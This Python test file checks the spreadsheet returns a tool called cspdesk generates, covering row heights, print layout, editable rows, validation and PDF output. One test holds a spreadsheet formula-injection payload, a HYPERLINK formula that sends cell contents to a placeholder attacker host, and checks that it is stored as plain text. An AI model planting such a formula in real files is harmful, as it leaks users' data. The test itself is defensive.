"""Partner returns as `cspdesk returns make` writes them: rows tall enough for their wrapped text,
set up to print, an unlocked block for new work that merges as added rows, text never a formula.
"""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from cspdesk.cli import main
from cspdesk.core.plan.model import Action
from cspdesk.core.rag.scheme import load_scheme
from cspdesk.io.cells import wrapped_lines
from cspdesk.returns.layout import COLUMNS
from cspdesk.returns.read import read_return
from cspdesk.returns.sheets import NEW_WORK_ROWS
from cspdesk.store.db import Workspace

SIX_LINES = "\n".join(f"Outcome {n}" for n in range(1, 7))
# About 450 characters: at least six lines in the 45-wide title column in any font.
LONG_TITLE = "Run the campaign with every partner " + "in each town and village " * 17


def make(db: Path, out: Path) -> dict[str, Path]:
    out.mkdir(exist_ok=True)
    assert main(["returns", "make", "--db", str(db), "--quarter", "Q1", "-o", str(out)]) == 0
    return {p.name.split("– ")[1].removesuffix(".xlsx"): p for p in out.glob("*.xlsx")}


def text_spots(page: Any) -> list[tuple[float, float]]:
    """Where each piece of text on a PDF page starts, in page coordinates."""
    spots: list[tuple[float, float]] = []

    def visit(text: str, cm: list[float], tm: list[float], *_: object) -> None:
        if text.strip():
            spots.append((tm[4] * cm[0] + cm[4], tm[5] * cm[3] + cm[5]))

    page.extract_text(visitor_text=visit)
    return spots


def to_pdf(folder: Path, *paths: Path) -> None:
    """Print ``paths`` to PDF through LibreOffice into ``folder``/pdf, as a user would."""
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{folder / 'profile'}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(folder / "pdf"),
            *map(str, paths),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )


def set_action(db: Path, action_id: int, **values: str) -> None:
    with Workspace.open(db) as workspace:
        workspace.write(
            lambda s: s.execute(update(Action).where(Action.id == action_id).values(**values))
        )


def test_wrapped_rows_are_tall_enough_and_sheets_print(
    workspace_path: Path, tmp_path: Path
) -> None:
    set_action(workspace_path, 1, outcomes=SIX_LINES, title=LONG_TITLE)
    book = load_workbook(make(workspace_path, tmp_path / "out")["All partners"])
    sheet = book["Actions"]
    assert sheet["D2"].value == SIX_LINES and sheet["D2"].alignment.wrap_text
    # Six lines of 11 pt text (15 points a line in Excel); the title may need more.
    assert sheet.row_dimensions[2].height >= 90 and sheet.row_dimensions[2].customHeight
    # Rows of one line keep the default height.
    assert sheet.row_dimensions[3].height is None
    assert sheet.print_title_rows == "$1:$1"
    setup = sheet.page_setup
    assert (setup.orientation, setup.paperSize) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert setup.fitToWidth in (None, 1) and setup.fitToHeight == 0
    last = 4 + NEW_WORK_ROWS  # header, A1 and its two milestones, then the rows for new work
    assert sheet.print_area == f"'Actions'!$A$1:$I${last}"
    assert sheet.print_options.gridLines
    cover = book["Cover"]
    assert cover.page_setup.orientation == "landscape"
    # One page by one (the default both ways, so XlsxWriter leaves the numbers out).
    assert cover.page_setup.fitToWidth in (None, 1) and cover.page_setup.fitToHeight in (None, 1)
    assert cover.sheet_properties.pageSetUpPr.fitToPage
    rows = {str(cover.cell(r, 1).value): r for r in range(1, cover.max_row + 1)}
    assert cover.row_dimensions[rows["5."]].height == 30  # its two lines at width 100
    text = " ".join(str(c.value) for row in cover.iter_rows() for c in row if c.value)
    assert "rows at the bottom" not in text and "empty yellow rows under the last" in text


def test_new_work_rows_are_unlocked_and_merge_as_added_rows(
    workspace: Workspace, workspace_path: Path, tmp_path: Path
) -> None:
    path = make(workspace_path, tmp_path / "out")["All partners"]
    book = load_workbook(path)
    sheet = book["Actions"]
    first, last = 5, 4 + NEW_WORK_ROWS
    for row in (first, last):
        assert sheet.cell(row, 1).protection.locked  # the hidden ID stays cspdesk's
        assert all(not sheet.cell(row, c).protection.locked for c in range(2, 10))
        assert sheet.cell(row, 3).fill.fgColor.rgb.endswith("FFF8DC")
    assert sheet.row_dimensions[first].height is None  # so that it grows as the partner types
    assert sheet.cell(last + 1, 3).protection.locked
    sheet.cell(first, 3).value = "White Ribbon day stall"
    sheet.cell(first, 7).value = "Held on 25 November in the high street"
    sheet.cell(first, 8).value = "Green"
    book.save(path)
    diff = workspace.read(read_return, path)
    (added,) = diff.added
    assert added.row == first and not diff.problems
    assert added.describe() == (
        "Action / milestone: White Ribbon day stall; "
        "This quarter's update: Held on 25 November in the high street; RAG: Green"
    )


def test_text_that_looks_like_a_formula_stays_text(workspace_path: Path, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    set_action(workspace_path, 1, outcomes=hostile, title="+SUM(1,2)")
    path = make(workspace_path, tmp_path / "out")["All partners"]
    sheet = load_workbook(path)["Actions"]
    for ref, value in (("D2", hostile), ("C2", "+SUM(1,2)")):
        assert sheet[ref].value == value and sheet[ref].data_type == "s"
        assert sheet[ref].quotePrefix
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
    assert b"<f>" not in xml


def test_text_too_long_for_a_cell_is_refused_naming_the_cell(
    workspace_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    set_action(workspace_path, 1, outcomes="x" * 40_000)
    out = tmp_path / "out"
    out.mkdir()
    assert main(["returns", "make", "--db", str(workspace_path), "--quarter", "Q1", "-o", str(out)])
    error = capsys.readouterr().err
    assert "sheet 'Actions', row 2, column D: 40000 characters" in error
    assert "make the returns again" in error and "Traceback" not in error
    assert list(out.iterdir()) == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_prints_the_cover_on_one_page_and_actions_one_page_wide(
    workspace_path: Path, tmp_path: Path
) -> None:
    set_action(workspace_path, 1, outcomes=SIX_LINES, title=LONG_TITLE)
    path = make(workspace_path, tmp_path / "out")["All partners"]
    to_pdf(tmp_path, path)
    pdf = tmp_path / "pdf" / path.with_suffix(".pdf").name
    from pypdf import PdfReader

    reader = PdfReader(pdf)
    pages = [page.extract_text() for page in reader.pages]
    assert all(page.mediabox.width > page.mediabox.height for page in reader.pages)
    assert "How to fill in this return" in pages[0] and "RAG key" in pages[0]
    assert "Not started yet." in pages[0]  # the cover's last line, on its one page
    actions = pages[1:]
    assert actions and all("Action / milestone" in p and "Done date" in p for p in actions)
    assert "Outcome 6" in "".join(actions) and "Run the campaign" in "".join(actions)
    for page in reader.pages:  # no text drawn off the page
        spots = text_spots(page)
        box = page.mediabox
        assert spots and all(0 <= x <= box.width and 0 <= y <= box.height for x, y in spots)


@pytest.mark.parametrize(
    ("text", "width", "lines"),
    [
        ("short", 10, 1),
        ("one\ntwo\n\nfour", 40, 4),
        ("word " * 20, 11, 10),  # 12 characters a line: two words each
        ("x" * 25, 10, 3),  # a word longer than a line is broken
    ],
)
def test_wrapped_lines_wraps_at_spaces(text: str, width: float, lines: int) -> None:
    assert wrapped_lines(text, width) == lines


def test_dates_drop_down_and_colours_as_the_reader_and_partners_expect(
    workspace: Workspace, workspace_path: Path, tmp_path: Path
) -> None:
    scheme = {s.label: s for s in workspace.read(load_scheme)}
    sheet = load_workbook(make(workspace_path, tmp_path / "out")["All partners"])["Actions"]
    assert sheet["I3"].is_date and sheet["I3"].number_format == "DD/MM/YYYY"
    (validation,) = sheet.data_validations.dataValidation
    assert (validation.type, validation.errorStyle, validation.showErrorMessage) == (
        "list",
        "warning",
        True,
    )
    assert validation.error == "Please choose one of: " + ", ".join(scheme)
    (rules,) = [r for r in sheet.conditional_formatting if "H2" in str(r.sqref)]
    assert str(rules.sqref) == f"H2:H{4 + NEW_WORK_ROWS}"  # the rows for new work too
    colours = {
        rule.formula[0].strip('"'): (rule.dxf.fill.bgColor.rgb, rule.dxf.font.color.rgb)
        for rule in rules.rules
    }
    assert colours == {
        label: ("FF" + s.colour.lstrip("#").upper(), "FF" + s.text_colour.lstrip("#").upper())
        for label, s in scheme.items()
    }


def test_actions_print_one_page_wide_at_nine_points_or_more() -> None:
    """Fitting the columns to A4 landscape's width keeps 11 pt text at 9 pt at least, as
    Excel scales it: a column w characters wide is 7w + 5 pixels (Calibri 11), 0.75 pt each."""
    from cspdesk.returns.layout import COLUMNS

    points = sum((c.width * 7 + 5) * 0.75 for c in COLUMNS if c.key != "id")
    printable = (297 / 25.4 - 0.4 - 0.4) * 72  # A4 landscape less the side margins set
    assert 11 * min(1.0, printable / points) >= 9.0


def test_a_long_update_takes_as_many_rows_as_it_needs_and_reads_back_unchanged(
    workspace: Workspace, workspace_path: Path, tmp_path: Path
) -> None:
    """Excel's tallest row is 409 pt: an update taller than that is never cut, the action's
    cells are merged down as many rows as the text needs, and the return reads back whole."""
    from cspdesk.core.quarter.contributions import ContributionValue, write_contributions
    from cspdesk.io.cells import MAX_ROW_POINTS

    long = " ".join(
        f"Paragraph {n}: patrols, meetings and visits in every town." for n in range(80)
    )
    value = ContributionValue(long + " The end.", "G", "All partners", 3)
    workspace.write(write_contributions, {(1, 1, "agency:3"): value})
    path = make(workspace_path, tmp_path / "out")["All partners"]
    sheet = load_workbook(path)["Actions"]
    assert sheet["G2"].value == long + " The end."
    (update,) = [r for r in sheet.merged_cells.ranges if r.min_col == r.max_col == 7]
    assert (update.min_row, update.max_row) == (2, 2 + update.size["rows"] - 1)
    rows = range(update.min_row, update.max_row + 1)
    heights = [sheet.row_dimensions[r].height for r in rows]
    assert len(heights) >= 2 and all(h <= MAX_ROW_POINTS for h in heights)
    needed = wrapped_lines(long + " The end.", 42) * 15
    assert sum(heights) >= needed
    # Every column of the action is merged down the same rows; its milestones follow.
    assert {(r.min_row, r.max_row) for r in sheet.merged_cells.ranges} == {
        (update.min_row, update.max_row)
    }
    assert str(sheet.cell(update.max_row + 1, 1).value).startswith("M")
    diff = workspace.read(read_return, path)
    assert not diff.changes and not diff.added and not diff.problems


@pytest.mark.parametrize(
    ("room", "printed"),
    [
        (200.0, 3 + NEW_WORK_ROWS),  # a short return: every row for new work prints
        (540.0, 3),  # the last action ends its page: no page of empty rows follows
    ],
)
def test_rows_for_new_work_print_only_where_they_share_the_last_actions_page(
    room: float, printed: int
) -> None:
    from cspdesk.returns.sheets import printed_rows

    heights = {0: 30.0, 1: room / 2, 2: room / 2}
    assert printed_rows(heights, 3, 3 + NEW_WORK_ROWS) == printed


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_no_printed_return_ends_with_a_page_of_only_the_heading(tmp_path: Path) -> None:
    """The demo's Q2 returns, one action with a long update, printed by LibreOffice: each
    last page holds an action (Rochford's ended with a page of the heading and empty rows)."""
    from cspdesk.core.quarter.contributions import (
        ContributionValue,
        lead_slots,
        write_contributions,
    )
    from cspdesk.returns.make import make_returns
    from cspdesk.store.demo import create_demo_workspace

    workspace = create_demo_workspace(tmp_path / "demo.cspdesk")
    long = " ".join(
        f"Paragraph {n}: the partnership met, reviewed the hotspot data and agreed next steps "
        "with schools and housing officers."
        for n in range(1, 40)
    )

    def long_update(session) -> None:  # type: ignore[no-untyped-def]
        slot = lead_slots(session, 1)[0]
        said = ContributionValue(long, "G", slot.name, slot.agency_id)
        write_contributions(session, {(1, q, slot.lead_key): said for q in (1, 2)})

    workspace.write(long_update)
    out = tmp_path / "returns"
    out.mkdir()
    paths = [m.path for m in make_returns(workspace, 1, 2, out)]
    workspace.close()
    to_pdf(tmp_path, *paths)
    from pypdf import PdfReader

    for path in paths:
        pages = PdfReader(tmp_path / "pdf" / path.with_suffix(".pdf").name).pages
        left = " ".join(pages[-1].extract_text().split())
        title = path.stem.replace("2016-17", "2016/17")  # the footer: title and page number
        for said in (*sorted((c.heading for c in COLUMNS), key=len, reverse=True), title):
            left = left.replace(said, " ")
        left = left.replace(f"Page {len(pages)} of {len(pages)}", " ")
        assert left.split(), f"{path.name}: its last page holds only the heading"
